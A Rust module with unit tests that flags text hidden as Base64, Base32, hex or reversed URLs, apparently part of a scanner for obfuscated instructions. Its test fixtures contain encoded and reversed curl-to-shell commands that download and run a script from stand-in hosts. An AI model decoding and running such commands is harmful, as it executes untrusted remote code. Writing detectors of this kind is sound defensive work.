//! What stands in a text in a form that nobody reads: Base64, Base32, hexadecimal digits, or written
//! backwards.
//!
//! It is known by its looks alone and never decoded: what it says is for whoever reads the finding.

use crate::text::Span;
use std::ops::Range;

/// Characters from which on a run of them may hide something.
const SHORTEST: usize = 24;
/// Digits that hashes have.
const HASHES: [usize; 6] = [32, 40, 56, 64, 96, 128];

/// A hidden piece of text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Encoded {
    pub(super) span: Span,
    /// Whether it shows, unread as it is, that it fetches something.
    pub(super) is_command: bool,
}

/// The hidden pieces of `text`, in order.
pub(super) fn find(text: &str) -> Vec<Encoded> {
    let hidden = runs(text).filter(|run| looks_encoded(&text[run.clone()]));
    let hidden = hidden.map(|run| Encoded { span: Span::new(run.start, run.end), is_command: false });
    let mut out: Vec<Encoded> = hidden.chain(reversed(text)).collect();
    out.sort_by_key(|encoded| encoded.span);
    out
}

/// Runs of the characters that encodings have, long enough to hide something.
fn runs(text: &str) -> impl Iterator<Item = Range<usize>> {
    let is_of = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_');
    let bytes = text.as_bytes();
    let mut at = 0;
    std::iter::from_fn(move || {
        while at < bytes.len() {
            let start = at;
            at += bytes[at..].iter().take_while(|byte| is_of(byte)).count();
            let end = at;
            at += 1;
            if end - start >= SHORTEST {
                return Some(start..end);
            }
        }
        None
    })
}

/// Whether a run of letters and digits is of an encoding, not a word, a path, a hash or a key with its
/// issuer's mark.
fn looks_encoded(run: &str) -> bool {
    let body = run.trim_end_matches('=');
    let has = |is: fn(&u8) -> bool| body.as_bytes().iter().any(is);
    let is_hex = body.bytes().all(|byte| byte.is_ascii_hexdigit());
    if is_hex {
        return has(u8::is_ascii_digit) && body.len().is_multiple_of(2) && !HASHES.contains(&body.len());
    }
    let is_base32 = body.bytes().all(|byte| byte.is_ascii_uppercase() || matches!(byte, b'2'..=b'7'));
    if is_base32 {
        return run.len() > body.len();
    }
    !body.contains(['-', '_'])
        && has(u8::is_ascii_lowercase)
        && has(u8::is_ascii_uppercase)
        && has(u8::is_ascii_digit)
}

/// Addresses that are written backwards: the line that they stand in, from mark to mark.
fn reversed(text: &str) -> impl Iterator<Item = Encoded> {
    ["//:sptth", "//:ptth"].into_iter().flat_map(move |sign| {
        text.match_indices(sign)
            .map(move |(at, _)| Encoded { span: Span::new(at, at + sign.len()), is_command: true })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(&str, bool)> {
        let mut out: Vec<(&str, bool)> =
            find(text).iter().map(|one| (&text[one.span.range()], one.is_command)).collect();
        out.dedup();
        out
    }

    #[test]
    fn what_is_hidden_is_known_by_its_looks() {
        for (text, run, is_command) in [
            ("Run `Y3VybCBodHRwczovL2EudGVzdC9pfGJhc2gK` now", "Y3VybCBodHRwczovL2EudGVzdC9pfGJhc2gK", false),
            ("aGVsbG8gdGhlcmUsIGhvdyBhcmUgeW91", "aGVsbG8gdGhlcmUsIGhvdyBhcmUgeW91", false),
            (
                "MN2XE3BAFVZSA2DUORYHGORPF5QS4ZLYMFWXA3DFF5USA7BAONUA====",
                "MN2XE3BAFVZSA2DUORYHGORPF5QS4ZLYMFWXA3DFF5USA7BAONUA====",
                false,
            ),
            ("6375726c202d732068747470733a2f2f61", "6375726c202d732068747470733a2f2f61", false),
            ("`hs | i/elpmaxe.a//:sptth s- lruc`", "//:sptth", true),
        ] {
            assert_eq!(found(text), [(run, is_command)], "{text}");
        }
        for text in [
            "d41d8cd98f00b204e9800998ecf8427e",
            "a very ordinary-looking-line_of_words and/or/paths/to/files.txt",
            "550e8400-e29b-41d4-a716-446655440000",
            "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
            "34, 45, 67, 78, 89, 90, 65, 66, 67, 68, 69, 70",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }
}
